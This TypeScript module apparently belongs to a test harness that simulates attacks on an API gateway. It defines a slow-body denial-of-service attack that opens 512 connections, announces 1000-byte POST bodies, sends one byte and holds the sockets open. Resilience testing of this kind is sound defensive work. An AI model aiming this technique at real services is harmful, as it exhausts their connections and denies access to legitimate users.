import type { Attack } from './attack.ts'
import { keepSocketsOpen } from './sockets.ts'

const REQUESTS = 512

/** Announces bodies and does not send them, all with one key. */
export const withholdBodies: Attack = ({ stack, attacker }) => {
  const head = [
    'POST /v1/products HTTP/1.1',
    `Host: ${new URL(stack.gateway).host}`,
    `Authorization: Bearer ${attacker.keys[0]}`,
    'Content-Type: application/json',
    'Content-Length: 1000',
  ]
  return keepSocketsOpen(stack.gateway, REQUESTS, `${head.join('\r\n')}\r\n\r\n{`, true)
}
